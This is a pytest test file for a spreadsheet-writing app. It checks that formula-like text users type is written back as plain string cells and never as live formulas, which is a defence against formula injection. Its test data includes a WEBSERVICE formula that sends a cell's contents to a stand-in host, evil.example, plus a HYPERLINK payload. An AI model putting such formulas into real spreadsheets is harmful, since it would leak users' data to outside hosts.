"""Text that came in as text goes out as text, in every workbook the app writes (cyp/cells.py).

A progress update typed as ``=WEBSERVICE(…)`` once came back in the next quarter's template as a live formula. Each
workbook the app writes is opened here and every cell checked: none is a formula (the app writes none of its own),
and text the users wrote is a string cell exactly as typed, with no apostrophe in front.
"""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, select

from cyp.access.permissions import system_acting_for
from cyp.board.excel import board_pack_xlsx
from cyp.cells import append_row, write_cell
from cyp.framework.workbook import export_framework
from cyp.problems import Problem
from cyp.returns.annotate import annotate_workbook
from cyp.returns.ingest import ingest_return
from cyp.returns.template import write_template
from cyp.storage.db import read_session, write_session
from cyp.storage.models import LineUpdate, Objective, Partner
from tests.returns_factory import build_framework, build_return

# What a user may type that a spreadsheet would otherwise run: each must come back exactly as typed.
HOSTILE = {
    "progress": '=WEBSERVICE("http://evil.example/?d="&ENCODEURL(D9))',
    "next_steps": "+44 20 8359 2000 then =1+1",
    "risks": "-2 staff vacancies; @SUM(A1:A9)",
}
STARTS = ("=", "+", "-", "@")
# The tests upload as the system, as the command line does with --as-system.
UPLOADER = system_acting_for("tests")

pytestmark = pytest.mark.both_databases


def _as_text_cells(data: bytes, cells: dict[str, str], sheet: str = "Return") -> bytes:
    """``data`` with ``cells`` (address -> text) written as string cells, as Excel stores typed text."""
    workbook = load_workbook(io.BytesIO(data))
    for address, text in cells.items():
        write_cell(workbook[sheet][address], text)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _hostile_return(quarter: str) -> bytes:
    """A clean return whose first line's progress, next steps and risks are the hostile texts (row 7: F, G, H)."""
    return _as_text_cells(
        build_return(quarter=quarter),
        {"F7": HOSTILE["progress"], "G7": HOSTILE["next_steps"], "H7": HOSTILE["risks"]},
    )


def assert_no_formula(data: bytes) -> list[str]:
    """Every cell of every sheet is not a formula; returns the text of every string cell, for further checks."""
    workbook = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
    return texts


@pytest.fixture
def stored(engine: Engine, tmp_path) -> Engine:  # type: ignore[no-untyped-def]
    """The test framework with Family Services' 2025-26 Q2 return stored, its first line's texts hostile."""
    with write_session(engine) as session:
        build_framework(session)
    result = ingest_return(
        _hostile_return("2025-26 Q2"), "q2.xlsx", UPLOADER, engine=engine, uploads_dir=tmp_path / "uploads"
    )
    assert result.status == "accepted", result.problems
    return engine


def test_cells_module_writes_text_as_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    write_cell(sheet["A1"], "=1+1")
    append_row(sheet, ["=2+2", "+3", 4, None, "tab\x00nul"])
    assert [(c.value, c.data_type) for c in sheet[1]][:1] == [("=1+1", "s")]
    assert [(c.value, c.data_type) for c in sheet[2]] == [
        ("=2+2", "s"), ("+3", "s"), (4, "n"), (None, "n"), ("tabnul", "s")
    ]  # fmt: skip


def test_template_carries_forward_formula_like_text_as_text_and_it_survives_the_re_upload(
    stored: Engine, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    with read_session(stored) as session:
        template = write_template(session, "Family Services", "2025-26 Q3")
    texts = assert_no_formula(template)
    for text in HOSTILE.values():
        assert text in texts
    sheet = load_workbook(io.BytesIO(template))["Return"]
    row = next(r for r in sheet.iter_rows(min_row=9) if r[0].value == "T23-1.1")
    assert [c.value for c in row[5:8]] == list(HOSTILE.values())
    # Input cells are Text cells, so what a lead types there ("50%", "1,234", "=…") stays as typed.
    assert all(cell.number_format == "@" for cell in row[4:8])
    # The template, uploaded again as it is, stores the same texts: nothing is lost or evaluated.
    result = ingest_return(template, "q3.xlsx", UPLOADER, engine=stored, uploads_dir=tmp_path / "uploads")
    assert result.status == "accepted", result.problems
    with read_session(stored) as session:
        latest = session.scalars(
            select(LineUpdate).where(LineUpdate.quarter == "2025-26 Q3").order_by(LineUpdate.id)
        ).first()
        assert (latest.progress, latest.next_steps, latest.risks) == tuple(HOSTILE.values())


def test_marked_copy_has_no_formula_from_the_upload(stored: Engine) -> None:
    data = _as_text_cells(_hostile_return("2025-26 Q3"), {"E7": "=1+1"})
    problems = [Problem("bad-status", "'=1+1' is not a RAG status", sheet="Return", cell="E7", value="=1+1")]
    problems.append(Problem("x", '=HYPERLINK("http://evil.example") in a message stays text'))
    texts = assert_no_formula(annotate_workbook(data, problems))
    assert "=1+1" in texts and HOSTILE["progress"] in texts
    assert '=HYPERLINK("http://evil.example") in a message stays text' in texts


def test_board_data_has_no_formula_and_no_apostrophes(stored: Engine) -> None:
    with read_session(stored) as session:
        data = board_pack_xlsx(session, "2025-26 Q2")
    texts = assert_no_formula(data)
    for text in HOSTILE.values():
        assert text in texts
    assert not any(text.startswith("'") and text[1:].startswith(STARTS) for text in texts)


def test_framework_export_has_no_formula(stored: Engine) -> None:
    with write_session(stored) as session:
        session.scalars(select(Objective).where(Objective.ref == "T23-1")).one().text = '=HYPERLINK("x")'
        session.scalars(select(Partner).where(Partner.ref == "housing")).one().name = "+Housing"
    with read_session(stored) as session:
        texts = assert_no_formula(export_framework(session))
    assert '=HYPERLINK("x")' in texts and "+Housing" in texts
